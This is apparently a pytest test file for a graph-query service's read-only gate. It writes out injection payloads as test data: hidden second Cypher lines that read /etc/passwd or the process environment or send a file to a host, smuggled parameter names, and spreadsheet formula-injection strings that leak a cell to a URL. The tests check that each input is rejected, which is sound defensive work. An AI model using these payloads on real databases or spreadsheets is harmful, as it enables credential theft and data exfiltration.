"""The read-only gate's two holes, closed on both stores and all three entry points (store, CLI, HTTP).

Each case is data: a query (or parameter map) and what must happen. A new attack is one line.
"""

from __future__ import annotations

import json
import subprocess

import pytest

from hospnet.errors import QueryParameterError, QueryRejected
from tests.api.conftest import error_of
from tests.reliability.conftest import HOSPNET, cli_env

# Every character some Cypher lexer could read as the end of a `//` comment, and NUL.
TERMINATORS = {
    "LF": "\n",
    "CR": "\r",
    "CRLF": "\r\n",
    "VT": "\x0b",
    "FF": "\x0c",
    "NEL": "\x85",
    "LS": "\u2028",
    "PS": "\u2029",
    "NUL": "\x00",
}
# What a hidden second line tried: read a file, read the JVM's environment, leak to a host, see or kill others.
PAYLOADS = {
    "read a file": "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    "read the environment": "LOAD CSV FROM 'file:///proc/self/environ' AS l RETURN l",
    "send a file away": "LOAD CSV FROM 'file:///etc/hostname' AS l LOAD CSV FROM 'http://127.0.0.1:9/?d=' + l[0] AS m RETURN m",
    "show transactions": "SHOW TRANSACTIONS",
    "show settings": "SHOW SETTINGS YIELD name, value RETURN name, value",
    "terminate transactions": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
}
HIDDEN = [
    pytest.param(f"MATCH (n) RETURN count(n) AS n // x{end}{payload}", id=f"{name}-{what}")
    for name, end in TERMINATORS.items()
    for what, payload in PAYLOADS.items()
]
# Parameter names FalkorDB would paste into its `CYPHER name=value` header.
BAD_NAMES = [
    "x=1 CALL dbms.procedures() YIELD name RETURN name //",
    "x=1 LOAD CSV FROM 'https://127.0.0.1:9/' AS l //",
    "a b",
    "1x",
    "",
    "x`",
    "x-y",
    "é",
]


@pytest.mark.parametrize("query", HIDDEN)
def test_the_store_refuses_what_a_comment_hides(store, query):
    with pytest.raises(QueryRejected):
        store.read(query)


@pytest.mark.parametrize("name", BAD_NAMES)
def test_the_store_refuses_a_parameter_name_that_is_no_identifier(store, name):
    with pytest.raises(QueryParameterError, match="parameter name"):
        store.read("RETURN 1 AS one", {name: 1})


def test_a_plain_parameter_name_still_works(store):
    assert store.read("RETURN $a_1 + $_b AS n", {"a_1": 1, "_b": 2}) == [{"n": 3}]


@pytest.mark.parametrize(
    "query", [p.values[0] for p in HIDDEN if "CR-" in p.id or "LS-" in p.id or "NUL-" in p.id]
)
def test_http_get_and_post_refuse_what_a_comment_hides(client, query):
    assert error_of(client.get("/cypher", params={"query": query}), 400)["code"] == "query_rejected"
    assert error_of(client.post("/cypher", json={"query": query}), 400)["code"] == "query_rejected"


@pytest.mark.parametrize("name", BAD_NAMES)
def test_http_post_refuses_a_bad_parameter_name(client, name):
    error = error_of(
        client.post("/cypher", json={"query": "RETURN 1 AS one", "params": {name: 1}}), 422
    )
    assert error["code"] == "bad_parameter"
    assert client.get("/cypher", params={"query": "RETURN 1 AS one"}).json()["rows"] == [
        {"one": 1}
    ]  # still serving


def test_the_cli_refuses_a_hidden_load_csv_and_a_bad_parameter_name(settings, store):
    env = cli_env(settings)
    hidden = subprocess.run(
        [
            str(HOSPNET),
            "cypher",
            "RETURN 1 AS one // x\rLOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
        ],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert hidden.returncode == 1 and "carriage return" in hidden.stderr, hidden.stderr
    assert "root:" not in hidden.stdout
    named = subprocess.run(
        [str(HOSPNET), "cypher", "RETURN 1 AS one", "--param", "x CALL dbms.procedures() //=1"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert named.returncode == 1 and "parameter name" in named.stderr, named.stderr


FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?d="&A1, "open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tx",
    "\rx",
]


def test_report_csv_cells_never_start_a_formula(tmp_path):
    import csv

    from hospnet.reports.tables import Table, write_csv

    table = Table(
        "t", "T", "", ["evidence", "count"], rows=[{"evidence": f, "count": -3} for f in FORMULAS]
    )
    with open(write_csv(table, tmp_path / "t.csv"), encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["evidence"] for r in rows] == ["'" + f for f in FORMULAS]
    assert {r["count"] for r in rows} == {"-3"}  # a number stays a number


def test_cli_csv_output_never_starts_a_formula(settings, store):
    done = subprocess.run(
        [
            str(HOSPNET),
            "cypher",
            "RETURN $f AS evidence",
            "--param",
            f"f={FORMULAS[0]}",
            "--format",
            "csv",
        ],
        env=cli_env(settings),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[1].startswith("\"'=HYPERLINK"), done.stdout


# Values no driver can send: each is a 422 in the JSON shape, and the server answers afterwards.
BAD_VALUES = {
    "int beyond 64 bits": 2**64,
    "int64 plus one": 2**63,
    "NUL": "a\x00b",
    "nested 100 deep": json.loads("[" * 100 + "]" * 100),
    "empty key in a map": {"": 1},
}


@pytest.mark.parametrize("value", list(BAD_VALUES.values()), ids=list(BAD_VALUES))
def test_http_post_refuses_a_parameter_value_no_driver_can_send(client, value):
    error = error_of(
        client.post("/cypher", json={"query": "RETURN $x AS x", "params": {"x": value}}), 422
    )
    assert error["code"] == "bad_parameter"
    assert client.get("/cypher", params={"query": "RETURN 1 AS one"}).json()["rows"] == [{"one": 1}]


def test_a_lone_surrogate_is_refused_by_the_store(store):
    with pytest.raises(QueryParameterError, match="Unicode"):
        store.read("RETURN $x AS x", {"x": "\ud800"})


def test_refused_writes_leave_no_property_names_behind(store):
    """A refused CREATE or MERGE once added its property names to FalkorDB's db.propertyKeys()."""

    def keys() -> set[str]:
        rows = store.read("CALL db.propertyKeys() YIELD propertyKey RETURN propertyKey")
        return {row["propertyKey"] for row in rows}

    before = keys()
    for i in range(150):
        for write in (f"CREATE (:Leak {{leak_a{i}: 1}})", f"MERGE (:Leak {{leak_b{i}: 1}})"):
            with pytest.raises(QueryRejected):
                store.read(write)
    assert keys() == before
